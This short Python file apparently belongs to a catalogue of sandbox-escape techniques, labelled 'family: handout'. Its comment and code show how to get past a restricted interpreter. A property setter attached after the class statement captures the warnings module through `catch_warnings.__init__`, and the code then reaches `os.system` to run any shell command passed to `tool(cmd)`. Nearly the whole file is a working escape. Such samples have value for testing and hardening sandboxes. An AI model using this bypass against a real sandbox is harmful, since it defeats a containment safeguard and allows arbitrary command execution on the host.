# family: handout
# Escape: a class body may no longer define `_module`, but the same name assigned after the class statement
# (Box._module = property(...)) is an ordinary private store the tool "defines". catch_warnings.__init__ run on
# the tool's object writes sys.modules["warnings"] through the setter; warnings.sys.modules["os"] is os.
import warnings


class Box:
    def keep(self, value):
        self.got = value


Box._module = property(None, Box.keep)


def tool(cmd: str) -> int:
    box = Box()
    warnings.catch_warnings.__init__(box)
    return box.got.sys.modules["os"].system(cmd)
